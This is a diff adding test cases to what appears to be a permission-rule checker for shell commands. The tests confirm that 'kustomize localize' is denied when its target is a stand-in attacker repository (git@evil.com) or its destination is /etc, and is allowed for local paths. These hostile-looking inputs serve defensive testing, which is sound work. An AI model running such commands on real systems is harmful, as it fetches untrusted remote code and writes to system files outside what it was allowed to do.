@@ -43,3 +43,15 @@ describe('a file cmdlet\'s position named -Name:VALUE, or positions after --, in
     ['Shell(Copy-Item C:\\s5 D:\\x)', 'Copy-Item -Path:a -Destination:b', 'allow'],
   ], 'pwsh', REPO_WINDOWS);
 });
+
+// kubectl-files.ts read kustomize's remote target for `build` only: `kustomize localize TARGET
+// DEST` clones it too, and writes DEST.
+describe('kustomize localize: its remote target and destination (were allowed)', () => {
+  shellRuleTable('deny', [
+    ['Domain(evil.com)', 'kustomize localize git@evil.com:o/r', 'deny'],
+    ['Edit(//etc/**)', 'kustomize localize . /etc/x', 'deny'],
+    // Precision: a local target; an edit of the kustomization only.
+    ['Domain(evil.com)', 'kustomize localize ./base out', 'allow'],
+    ['Domain(evil.com)', 'kustomize edit add resource git@evil.com:o/r', 'allow'],
+  ]);
+});
